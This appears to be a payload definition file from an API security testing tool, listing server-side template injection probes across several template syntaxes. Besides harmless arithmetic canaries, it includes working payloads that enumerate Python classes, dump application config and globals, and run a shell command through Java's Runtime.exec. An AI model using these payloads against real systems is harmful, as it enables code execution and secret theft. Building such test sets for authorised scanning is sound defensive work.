import { definePayload } from '../world/payloads.ts'

export default definePayload({
  id: 'injection-template',
  title: 'templates in the place of values',
  owasp: ['API8:2023'],
  inputs: ['text'],
  values: [
    '{{7*7}}',
    '\u0024{7*7}',
    '@{7*7}',
    '<%= 7*7 %>',
    '{{config.items()}}',
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    '\u0024{T(java.lang.Runtime).getRuntime().exec("id")}',
    '{{request.application.__globals__}}',
    '*{7*7}',
    '{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}',
  ],
})
